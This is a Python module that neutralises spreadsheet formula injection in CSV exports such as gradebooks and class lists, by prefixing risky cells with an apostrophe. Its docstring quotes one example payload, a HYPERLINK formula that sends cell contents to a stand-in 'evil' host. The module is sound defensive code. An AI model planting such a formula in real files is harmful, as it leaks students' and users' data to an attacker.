"""CSV files a person opens in a spreadsheet program (gradebooks, invitations, class lists): a
cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and WPS, so a name such as ``=HYPERLINK("https://evil/?"&A2,"成绩")`` from a
roster would run (or leak the sheet) when the instructor opens the file.  Such a text cell is
written with a leading ``'`` (OWASP's advice), which the spreadsheet shows as text; numbers
(``-0.5``) stay numbers.  Every CSV the service writes goes through ``writer``."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # and full-width forms
NUMBER = re.compile(r"^[-+]?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?$")


def cell(value: Any) -> Any:
    """``value`` as a spreadsheet reads it as data, never as a formula."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS) or NUMBER.match(value):
        return value
    return "'" + value


class Writer:
    """``csv.writer`` whose rows are made safe cell by cell (``cell``)."""

    def __init__(self, out, **options):
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **options) -> Writer:
    return Writer(out, **options)
